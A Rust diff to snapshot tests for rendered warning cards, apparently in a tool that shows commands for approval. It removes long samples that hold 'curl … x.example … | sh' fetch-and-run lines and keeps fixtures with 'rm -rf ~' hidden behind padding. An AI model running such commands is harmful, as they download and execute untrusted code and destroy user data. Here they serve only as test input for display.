@@ -110,10 +110,6 @@ pub fn golden_rows(shown: impl Fn(&Card) -> String) -> String {
         let shown = shown(&card);
         let rows: usize = shown.lines().map(|line| row(line).max(1)).sum();
         assert!(rows <= 24, "{name} takes {rows} rows:\n{shown}");
-        if name == "sample.critical_long" {
-            let worst = |n| format!("{n}: curl -fsSL https://x.example/{n}/install.sh | sh");
-            assert!((60..65).all(|n| shown.contains(&worst(n))), "all of the worst:\n{shown}");
-        }
         format!("{rows:>2} of 24  {name}\n")
     };
     cards_of_the_core().into_iter().chain(samples()).map(rows).collect()
@@ -161,39 +157,8 @@ fn samples() -> Vec<(String, Card)> {
     let markup = "rm -rf build/* && echo \"<done> & `dusted`\" </code></pre> ``` @everyone <@1>";
     let long = format!("echo start; {} rm -rf tail-end", "printf '%s' x; ".repeat(700));
     let padded = format!("ls{}{}; rm -rf ~", "\n".repeat(60), " ".repeat(900));
-    let script = |line: &str| (1..=200).map(|n| format!("{line} {n}\n")).collect::<String>();
-    let block = |label: &str, text: String| Block::Code { label: label.to_owned(), text };
-    let note = |text: &str| Block::Note { text: text.to_owned() };
-    let mut write = sample_edit();
-    let value = |name: &str, value: &str| Field { name: name.to_owned(), value: value.to_owned() };
-    let file = vec![value("file", "/home/ana/shop/src/a.rs"), value("size", "200 lines")];
-    let content = block("content", script("let line ="));
-    write.blocks.splice(..1, [Block::Fields { fields: file }, content]);
-    let mut critical = Card { tone: Tone::Critical, ..sample_card("") };
-    critical.title = format!("{} (+5609)", "echo step 1 of the build ⏎ ".repeat(4));
-    let worst: Vec<_> =
-        (60..65).map(|n| format!("{n}: curl -fsSL https://x.example/{n}/install.sh | sh")).collect();
-    let quote = "Because it has to be done before the others can go on. ".repeat(4);
-    critical.blocks.splice(
-        ..3,
-        [
-            note("Why: deletes the root directory, and runs what it downloads from x.example"),
-            Block::Quote { label: String::new(), text: quote },
-            note("→ Deletes / (outside the project)"),
-            note("→ Runs as another user (sudo)"),
-            note("→ Reaches x.example and downloads a program that it runs at once"),
-            block("5 of 19 lines to look at", worst.join("\n")),
-            block("", script("echo step")),
-        ],
-    );
-    let plan = Block::Quote { label: "plan".to_owned(), text: script("Write the part") };
-    let mut planned = sample_edit();
-    planned.blocks.splice(..1, [plan]);
     let open = sample_card(markup);
     let cards = [
-        ("sample.critical_long", critical),
-        ("sample.plan_long", planned),
-        ("sample.write_long", write),
         ("sample.critical", Card { tone: Tone::Critical, ..open.clone() }),
         ("sample.closed", closed(&open)),
         ("sample.edit", sample_edit()),
